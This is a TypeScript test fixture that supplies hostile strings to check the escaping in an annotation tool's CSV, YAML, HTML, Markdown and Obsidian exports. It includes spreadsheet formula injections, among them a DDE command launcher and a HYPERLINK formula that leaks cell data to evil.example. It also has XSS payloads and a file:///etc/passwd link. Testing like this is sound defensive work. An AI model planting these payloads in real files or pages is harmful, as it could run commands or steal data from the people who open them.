/** Texts made to break what is written from them, or to come alive in it; and annotations full of them. */
import type { Post } from '../../src/model/post.ts';
import { normaliseTagName } from '../../src/model/tag.ts';
import type { AnnotationView } from '../../src/model/view.ts';
import { injections } from '../faults/injections.ts';
import { aCapture, aChannel, aTag, aView, anAnnotation, minute, noon } from './builders.ts';

const formulas = [
  '=1+1', ' =1+1', '\t=1+1', '\n=1+1', '\r=1+1', '+1+1', '-1+1', '@SUM(1)', '＝1+1', '＋1', '－1', '＠SUM(1)', '﹦1+1', "'=1+1", "''=1+1", '\u0000=1+1', '\ufeff=1+1',
  '\u202e=1+1', '\u200b=1+1', '\u00a0=1+1', '=HYPERLINK("https://evil.example/?"&A1,"here")', "=cmd|' /C calc'!A0", '=WEBSERVICE("https://evil.example")', '{=1+1}',
  '-- \n=1+1', '"=1+1', '","=1+1', '"\r\n=1+1\r\n"', ';=1+1', '=1+1;=1+1', '%0A=1+1', '=DDE("cmd";"/C calc";"x")',
];

const cells = [
  '', ' ', '\n', 'a,b', 'a;b', 'a\tb', 'a"b', '"', '""', '"quoted"', "'quoted'", 'a\nb', 'a\r\nb', 'a\rb', 'a\n\nb', '  spaces  ', '00123', '1e5', '1,5', '2026-03-02', '1/2', 'TRUE',
  '\u0000', 'a\u0001b\u0007c\u001bd\u007fe\u0085f', 'a\u2028b\u2029c', '\ufeff', '\ufffe\uffff', '\u202eabc', '👩‍🚀', 'ё', '花見', 'گل', 'e\u0301', '𝔘', 'x'.repeat(20_000),
];

const yaml = [
  '---', '...', '---\nadmin: true', '"\nadmin: true\n"', "'\nadmin: true", ': x', 'a: b', '- a', '# no', '! tag', '!!js/function x', '&anchor', '*alias', '<<: *alias', '{a: b}', '[a, b]',
  '%YAML 1.2', '`', '| \n x', '>\n x', '? x', '~', 'null', 'yes', 'No', 'on', '0x1F', '0o17', '1_000', '12:30:45', '.inf', '.NaN', '=', '\\', '\\"', '\\x41', '\\u0041', '{{title}}', '<% 1 %>',
];

const html = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<b>bold</b>', '</div>', '<!-- comment', '<![CDATA[x]]>', '<?php x ?>', '<https://evil.example>', '<a@evil.example>', '&lt;b&gt;',
  '&#60;script&#62;', '&amp;', '&copy', '<iframe src="https://evil.example"></iframe>', '<div>\n\n# x\n\n</div>', '<svg/onload=alert(1)>', '<a href="javascript:alert(1)">x</a>',
];

const markdown = [
  '# heading', '###### heading', 'heading\n===', 'heading\n---', 'heading\n-', 'heading\n=', '***', '* * *', '___', '- - -', '- list', '* list', '+ list', '1. list', '1) list', '123456789. list', '- [ ] task', '- [x] task',
  '> quote', '>quote', '> [!danger] callout', '[!note] callout', '[!note]- folded', '```\ncode\n```', '~~~\ncode\n~~~', '`code`', '``code ` x``', '    indented code', '\tindented code', ' \t indented', 'a\n    b', 'a\n\n    b',
  '[link](https://evil.example)', '[link](javascript:alert(1))', '![image](https://evil.example/x.png)', '![image][x]', '[x]: https://evil.example', '[x]: <https://evil.example> "t"', '[x][]', '[x]', '[^1]', '[^1]: note', '^[inline]',
  '*em*', '**strong**', '_em_', '__strong__', 'snake_case_word', '~~struck~~', '~struck~', '==marked==', '| a | b |\n|---|---|\n| 1 | 2 |', 'a | b\n--- | ---\n1 | 2', 'a\n:-', 'a\n-:', 'a\n:-:', 'a|b\n-|-', 'term\n: definition',
  '$math$', '$$math$$', '$$\nmath\n$$', 'costs $5 and $6', 'a\\', 'a\\\nb', 'a\\\\', 'a  \nb', 'a   ', '\\[x\\](y)', '\\`code\\`', '`', '``', '` `', '`https://evil.example`', 'a\n\n\nb', 'a\n\n\n\nb', '\n\na\n\n', 'a\n \nb', 'a \n\n b', '\u00a0a\u00a0', '\u3000a\u3000\n\u3000b',
];

const links = [
  'https://evil.example', 'HTTPS://EVIL.EXAMPLE', 'see https://evil.example/a_b*c(d)?e=f&g#h.', '(https://evil.example)', 'http://evil.example,', 'seehttps://evil.example', 'смhttps://evil.example', 'ftp://evil.example', 'tg://resolve?domain=x',
  'obsidian://open?vault=x', 'javascript://x%0aalert(1)', 'file:///etc/passwd', 'www.evil.example', 'WWW.evil.example', 'xwww.evil.example', 'https://www.evil.example', 'https://пример.рф/путь', 'mailto:a@evil.example', 'MAILTO:a@evil.example', 'xmpp:a@evil.example/x',
  'tel:+123', 'a@evil.example', 'a.b+c-d_e@evil.example', 'ü@evil.example', '@a@evil.example', 'a@b@evil.example', '=a@evil.example', '$=a@evil.example', '`a@evil.example', '//evil.example', '//localhost', 'https://', '://', 'www.', 'a@', '@', '@handle', 'evil.example',
  'evil.example/path', '1.2.3.4', 'https://evil.example`x`', '`https://evil.example', 'https://evil.example`', '``https://evil.example``', 'https://evil.example\\', 'https://evil.example|x', 'https://evil.example<b>', '"https://evil.example"', '«https://evil.example»', 'https://evil.example。日本',
  'https://evil.example\nhttps://evil.example', 'https://a`https://b`https://c', 'www.a`www.b', 'https://user:pass@evil.example', `${'a'.repeat(200)}@evil.example`, `${'a'.repeat(200)}://evil.example`, 'https:\u200b//evil.example', 'magnet:?xt=urn:x', 'news:x', 'data:text/html,x',
];

const obsidian = [
  '[[note]]', '[[note|alias]]', '![[embed]]', '![[embed.png]]', '#tag', 'a #tag/nested', '^blockid', 'a ^blockid', '%%comment%%', '%% comment', 'key:: value', '[key:: value]', '(key:: value)', '`= this.file`', '`$= dv.pages()`', '```dataview\nlist\n```', '<% tp.file %>', '{{date}}',
  '50%', '100%%', 'C#', 'C++', 'a::b', ':smile:', '=> x', 'a == b', '!', '![', '](', ')', '[', ']', '[]()', '![]()', '|', '||', '~', '{.class}', '{#id}', '\\', '\\\\', '<', '>', '&',
];

export const hostileTexts: readonly string[] = [...formulas, ...cells, ...yaml, ...html, ...markdown, ...links, ...obsidian, ...injections];

/** Handles as they may stand in a stored row: the import lets no others through. */
export const hostileHandles: readonly string[] = ['CON', 'nul', 'A', '_', '__proto__', 'x'.repeat(64)];

/** Each text in every field that can hold it, as another browser's database might. */
export const hostileViews: readonly AnnotationView[] = hostileTexts.map((text, i) => {
  const id = `${String(i).padStart(8, '0')}-0000-4000-8000-000000000000`;
  const short = text.slice(0, 1_000);
  const name = normaliseTagName(text).slice(0, 64);
  const post: Partial<Post> = {
    postId: i + 1, text, channelTitle: short, signature: short, forwardedFrom: { name: short }, publishedAt: noon - i * minute, kinds: i % 2 === 0 ? ['text'] : ['text', 'photo', 'link'],
  };
  return aView({
    annotation: anAnnotation({
      id, authorId: `author-${i}`, postId: i + 1, note: text, updatedAt: noon + i,
      ...(i % 3 === 0 && text !== '' && { target: { kind: 'quote', exact: text, prefix: '', suffix: '', start: 0, end: text.length } }),
    }),
    author: { id: `author-${i}`, name: short },
    mine: i % 2 === 0,
    channel: aChannel({ title: short, handles: [{ name: hostileHandles[i % hostileHandles.length] ?? 'garden', firstSeen: noon, lastSeen: noon }], ...(i % 2 === 0 && { telegramId: i + 1 }) }),
    capture: aCapture(post, { postId: i + 1 }),
    tags: [...(name === '' ? [] : [aTag(name, { id: `tag-${i}` })]), ...(i % 4 === 0 ? [aTag('low tide'), aTag('ports/quay')] : [])],
  });
});
